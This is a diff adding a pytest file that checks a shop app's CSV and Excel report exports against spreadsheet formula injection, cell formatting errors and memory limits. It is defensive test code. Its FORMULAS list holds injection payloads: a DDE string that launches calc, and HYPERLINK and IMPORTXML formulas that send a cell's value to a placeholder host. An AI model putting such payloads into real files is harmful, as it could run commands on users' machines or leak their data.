@@ -1,0 +1,222 @@
+"""What the owner takes along: read back by readers that know nothing of ours, and hostile names stay text in them."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import subprocess
+import sys
+import zipfile
+from collections.abc import Sequence
+from datetime import date
+from xml.etree import ElementTree
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from edge.language import Said, language
+from edge.reports.export import as_csv, as_xlsx, inert
+from edge.reports.shown import Cell, Table, Unit
+from tests.busy_weeks import live_through
+from tests.hostile import SAYINGS
+from tests.shops import Counter
+from tests.support import NOON
+
+# How formulas get into spreadsheets, as the guides to CSV injection list it, and ways around a simple guard.
+FORMULAS = (
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(1)",
+    " =1+1",
+    "\u200b=1+1",
+    "\ufeff=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
+    '=IMPORTXML(CONCAT("http://example.invalid/?",A1),"//a")',
+    '"=1+1',
+    "'=1+1",
+    "x;=1+1",
+    'x;"=1+1',
+    'x";"=1+1',
+    "x\t=1+1",
+    "x\r\n=1+1",
+    "x\n;=1+1",
+    "+250788000101",
+    "-",
+    "=",
+)
+BEGINNING = re.compile("[=+\\-@＝＋－＠]")
+SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
+
+
+def table(*names: str) -> Table:
+    """A table as it is made of customers."""
+    rows = [(Cell(name, Unit.TEXT), Cell(7), Cell(372.4, Unit.SPAN), Cell(None, Unit.SPAN)) for name in names]
+    return Table("customers", Said("reports.by_customers"), tuple(map(Said, ("", "a", "b", "c"))), tuple(rows))
+
+
+def read(data: bytes, delimiter: str = ",") -> list[list[str]]:
+    assert data.startswith(b"\xef\xbb\xbf"), "without its mark Excel takes UTF-8 for something else"
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))
+
+
+def written(*names: str) -> bytes:
+    return as_csv([table(*names)], "Kabeza Hardware", language("en"))
+
+
+def parsed(book: zipfile.ZipFile, name: str) -> ElementTree.Element:
+    return ElementTree.fromstring(book.read(name))  # noqa: S314  # we have written it ourselves
+
+
+def sheets(data: bytes) -> dict[str, list[list[tuple[str, str]]]]:
+    """By sheet, the rows of its cells: each its type and its text, read from the bare XML."""
+    with zipfile.ZipFile(io.BytesIO(data)) as book:
+        assert book.testzip() is None
+        names = [sheet.get("name", "") for sheet in parsed(book, "xl/workbook.xml").iter(f"{SHEET}sheet")]
+        found = {}
+        for number, name in enumerate(names, 1):
+            root = parsed(book, f"xl/worksheets/sheet{number}.xml")
+            assert not list(root.iter(f"{SHEET}f")), "a formula"
+            assert not list(root.iter(f"{SHEET}hyperlink")), "a link"
+            found[name] = [[_cell(cell) for cell in row] for row in root.iter(f"{SHEET}row")]
+    return found
+
+
+def _cell(cell: ElementTree.Element) -> tuple[str, str]:
+    return cell.get("t", "n"), "".join(cell.itertext())
+
+
+# -- formulas
+
+
+@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
+def test_no_cell_of_a_text_file_begins_as_a_formula_whatever_its_reader_takes_for_the_end_of_one(delimiter: str):
+    """In countries that write decimals with a comma a double click opens our file with cells apart by semicolons."""
+    rows = read(written(*FORMULAS, *SAYINGS.values()), delimiter)
+    loose = [cell for row in rows for cell in row if BEGINNING.match(cell.lstrip(' \u200b\ufeff"'))]
+    assert loose == []
+
+
+@settings(deadline=None, max_examples=150)
+@given(st.text(st.sampled_from("=+-@\t\r\n ;,\"'|a1＝＠"), max_size=12))
+def test_whatever_a_customer_is_called_begins_no_formula(name: str):
+    for delimiter in (",", ";", "\t"):
+        cells = [cell for row in read(written(name), delimiter) for cell in row]
+        assert not any(BEGINNING.match(cell.lstrip(' "')) for cell in cells), cells
+
+
+@pytest.mark.parametrize("text", ["Jean Bosco", "Mukamana, Claudine", "5-inch nails", "أمينة", "2; 3", "a@b"])
+def test_what_is_no_formula_stays_as_it_is(text: str):
+    assert inert(text) == text
+
+
+def test_in_a_workbook_a_formula_is_text_and_exactly_what_the_customer_wrote():
+    (rows,) = sheets(as_xlsx([table(*FORMULAS)], "Kabeza", language("en"), NOON)).values()
+    names = [row[0] for row in rows[2:]]
+    assert {kind for kind, _ in names} <= {"inlineStr", "s"}
+    shown = [re.sub("_x([0-9A-F]{4})_", lambda found: chr(int(found[1], 16)), text) for _, text in names]
+    assert [text.replace("\r\n", "\n") for text in shown] == [text.replace("\r\n", "\n") for text in FORMULAS]
+
+
+def test_hostile_names_make_a_workbook_that_can_be_read():
+    rows = next(iter(sheets(as_xlsx([table(*SAYINGS.values())], "x" * 300, language("en"), NOON)).values()))
+    assert len(rows) == 2 + len(SAYINGS)
+
+
+# -- how cells come out
+
+
+def test_numbers_stay_numbers_and_spans_are_seconds():
+    *_, heads, row = read(written("Amina"))
+    assert row == ["Amina", "7", "372", ""]
+    assert heads[2] == "b (seconds)"
+
+
+def test_a_text_file_has_the_ends_of_lines_that_spreadsheets_expect_and_keeps_lines_within_a_cell():
+    data = written("two\nlines")
+    assert data.count(b"\r\n") == len(read(data))
+    assert read(data)[-1][0] == "two\nlines"
+
+
+def test_in_a_workbook_spans_are_times_and_days_are_dates():
+    cells = (Cell("Amina", Unit.TEXT), Cell(5400, Unit.SPAN), Cell(date(2026, 11, 20), Unit.DAY), Cell(3))
+    days = Table("t", Said("reports.by_day"), tuple(map(Said, "abcd")), (cells,))
+    (rows,) = sheets(as_xlsx([days], "Kabeza", language("en"), NOON)).values()
+    assert rows[-1][1:] == [("n", "0.0625"), ("n", "46346"), ("n", "3")], "a sixteenth of a day, days since 1900"
+
+
+def test_sheets_whose_titles_are_the_same_have_names_of_their_own():
+    same = [Table(name, Said("By day: [all] of them, and very much more"), (Said("a"),), ()) for name in ("one", "two")]
+    assert list(sheets(as_xlsx(same, "Kabeza", language("en"), NOON))) == ["By day   all  of them, and very", "two"]
+
+
+# -- the whole of a report
+
+
+def test_both_exports_have_what_the_page_shows(counter: Counter):
+    live_through(counter, 4)
+    phone = counter.signed_in("Aline", owner=True)
+    page = phone.open("/reports?kind=range&first=2026-11-23&last=2026-11-26").text
+    text = read(phone.open("/reports/export.csv?kind=range&first=2026-11-23&last=2026-11-26").content)
+    book = sheets(phone.open("/reports/export.xlsx?kind=range&first=2026-11-23&last=2026-11-26").content)
+    titles = [
+        title
+        for title in ("The sum", "How long it took", "By day", "By hour", "By person", "How they ended", "By label")
+        if f"<h2>{title}</h2>" in page
+    ]
+    assert len(titles) >= 6
+    assert {*titles, "Who wrote most"} <= set(book)
+    for title in titles:
+        start = next(number for number, row in enumerate(text) if row == [title])
+        there = book[title][2:]
+        plain = [[cell for cell in row if cell] for row in text[start + 2 : start + 2 + len(there)]]
+        assert [len(row) for row in plain] == [len([cell for _, cell in row if cell]) for row in there]
+        for row in plain:
+            assert all(cell.lstrip("'") in page or cell.isdecimal() or "-" in cell for cell in row), row
+
+
+def test_a_list_is_taken_along_whole(counter: Counter):
+    live_through(counter, 8, a_day=10)
+    phone = counter.signed_in("Aline", owner=True)
+    asked = "kind=range&first=2026-11-23&last=2026-12-01&of=came_in"
+    total = int(re.findall(r"<h2>[^<]* · ([0-9]+)</h2>", phone.open(f"/reports/queries?{asked}").text)[0])
+    assert total > 50, "more than one page"
+    told = phone.open(f"/reports/queries.csv?{asked}")
+    assert len(read(told.content)) == total + 4
+    assert told.headers["Content-Disposition"] == 'attachment; filename="iduka-2026-11-23-2026-12-01.csv"'
+    assert "'=1+1" in told.text
+    (rows,) = sheets(phone.open(f"/reports/queries.xlsx?{asked}").content).values()
+    assert len(rows) == total + 2
+
+
+# -- what it costs
+
+MEMORY = """
+import resource, sys
+from datetime import UTC, datetime
+from edge.language import Said, language
+from edge.reports.export import as_csv, as_xlsx
+from edge.reports.shown import Cell, Table, Unit
+rows = tuple((Cell(f"Customer {number}", Unit.TEXT), Cell(number), Cell(372.4, Unit.SPAN)) for number in range(10_000))
+table = Table("t", Said("reports.by_day"), (Said("a"), Said("b"), Said("c")), rows)
+before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+as_xlsx([table], "Kabeza", language("en"), datetime(2026, 11, 20, tzinfo=UTC))
+print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)
+"""
+
+
+def test_the_largest_workbook_needs_little_memory():
+    told: Sequence[str] = subprocess.run(
+        [sys.executable, "-c", MEMORY], capture_output=True, text=True, check=True, timeout=60
+    ).stdout.split()
+    assert int(told[0]) < 16 * 1024, "kilobytes, the library among them"
